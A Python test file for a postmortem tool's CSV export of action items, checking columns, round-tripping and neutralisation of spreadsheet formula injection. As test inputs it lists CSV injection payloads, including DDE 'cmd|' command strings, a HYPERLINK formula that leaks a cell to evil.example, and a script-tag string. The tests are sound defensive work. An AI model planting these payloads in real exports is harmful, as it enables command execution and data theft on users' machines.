"""Action-item CSV: fixed columns, every value read back by csv.reader as it went in, and formula
triggers at the start of a text cell neutralised (OWASP CSV injection)."""

from __future__ import annotations

import csv
import datetime as dt
import io

from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.domain.postmortem import ActionItem, Evidence, Flag, Postmortem, ReviewStatus
from assistant.export.csvexport import CSV_COLUMNS, defuse, render_action_items_csv

NASTY = 'Lee, "the boss"\nChen | [/] [bold] `x` <script>alert(1)</script>\r\n=SUM(A1)'


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_header_and_row_values() -> None:
    pm = Postmortem(
        action_items=[
            ActionItem(
                id="a",
                action="Add CI check",
                owner="Lee",
                due="Friday",
                due_date=dt.date(2026, 3, 6),
                flags=[Flag.OWNER_UNCONFIRMED, Flag.VAGUE_DUE_DATE],
                evidence=Evidence(start=61.5, end=64.25, quote="I'll do it"),
            ),
            ActionItem(id="b", action="Fix alerts", status=ReviewStatus.ACCEPTED, item_status="done"),
        ]
    )
    rows = parse(render_action_items_csv(pm))
    assert rows[0] == list(CSV_COLUMNS) == [
        "owner", "action", "due", "due_date", "item_status", "review_status", "flags", "start", "end", "quote"
    ]  # fmt: skip
    assert rows[1] == [
        "Lee", "Add CI check", "Friday", "2026-03-06", "open", "proposed",
        "owner_unconfirmed;vague_due_date", "61.500", "64.250", "I'll do it",
    ]  # fmt: skip
    assert rows[2] == ["", "Fix alerts", "", "", "done", "accepted", "", "", "", ""]


def test_rejected_rows_only_when_asked() -> None:
    pm = Postmortem(action_items=[ActionItem(id="a", action="Blame Sam", status=ReviewStatus.REJECTED)])
    assert parse(render_action_items_csv(pm)) == [list(CSV_COLUMNS)]
    assert parse(render_action_items_csv(pm, include_rejected=True))[1][:2] == ["", "Blame Sam"]


def test_empty_postmortem_has_just_the_header() -> None:
    assert render_action_items_csv(Postmortem()) == ",".join(CSV_COLUMNS) + "\r\n"


def test_hostile_text_round_trips_unchanged() -> None:
    pm = Postmortem(
        action_items=[ActionItem(id="a", owner=NASTY, action=NASTY, due=NASTY, evidence=Evidence(quote=NASTY))]
    )
    row = parse(render_action_items_csv(pm))[1]
    assert len(row) == len(CSV_COLUMNS)
    assert row[0] == row[1] == row[2] == row[9] == NASTY


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(codec="utf-8")), min_size=1, max_size=3))
def test_any_text_round_trips(texts: list[str]) -> None:
    pm = Postmortem(
        action_items=[ActionItem(id=str(i), owner=t, action=t, evidence=Evidence(quote=t)) for i, t in enumerate(texts)]
    )
    rows = parse(render_action_items_csv(pm))[1:]
    assert [(r[0], r[1], r[9]) for r in rows] == [(defuse(t), defuse(t), defuse(t)) for t in texts]
    for t in texts:
        # Only a trigger character at the start changes anything, and then only by one apostrophe.
        assert defuse(t) == t or (defuse(t) == "'" + t and t[0] in "=+-@\t\r")


FORMULAS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
            "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.example/?"&A1,"click")']  # fmt: skip


def test_formula_injection_is_neutralised_in_every_text_cell() -> None:
    pm = Postmortem(
        action_items=[
            ActionItem(id=str(i), owner=f, action=f, due=f, evidence=Evidence(quote=f)) for i, f in enumerate(FORMULAS)
        ]
    )
    rows = parse(render_action_items_csv(pm))[1:]
    assert len(rows) == len(FORMULAS)
    for formula, row in zip(FORMULAS, rows, strict=True):
        assert len(row) == len(CSV_COLUMNS)
        for cell in (row[0], row[1], row[2], row[9]):
            assert cell == "'" + formula  # shown as text by a spreadsheet, never evaluated
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_formula_characters_inside_a_cell_are_left_alone() -> None:
    text = "Ana: fix a=b+c - see @ops | and cmd|x"
    pm = Postmortem(action_items=[ActionItem(id="a", owner="Ana", action=text)])
    assert parse(render_action_items_csv(pm))[1][1] == text
